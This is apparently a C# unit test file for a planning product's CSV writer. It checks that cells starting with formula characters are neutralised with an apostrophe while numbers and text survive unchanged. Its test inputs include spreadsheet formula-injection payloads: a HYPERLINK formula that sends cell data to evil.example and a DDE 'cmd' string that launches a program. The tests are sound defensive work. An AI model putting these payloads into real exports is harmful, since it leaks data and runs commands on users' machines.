using Wfm.Planning.Csv;

namespace Wfm.Planning.Tests;

/// <summary>No CSV the product writes can carry a spreadsheet formula, and what it writes reads back as it was.</summary>
public sealed class CsvCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")]
    [InlineData("+90 555 0101", "'+90 555 0101")]
    [InlineData("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\tTAB", "'\tTAB")]
    [InlineData("-1.5", "-1.5")]
    [InlineData("+3", "+3")]
    [InlineData("agent-001", "agent-001")]
    [InlineData("", "")]
    public void Cell_NeutralisesFormulas_ButKeepsNumbersAndText(string text, string written)
    {
        Assert.Equal(written, CsvTable.Cell(text));
        Assert.Equal(text, CsvTable.Uncell(CsvTable.Cell(text)));
    }

    [Fact]
    public void EveryRowWritten_GoesThroughIt()
    {
        var writer = new StringWriter();
        using (var table = new CsvTable(writer, "id", "difference"))
        {
            table.Row("=1+1", "-2.25");
        }

        Assert.Equal("id,difference\n'=1+1,-2.25\n", writer.ToString());
    }
}
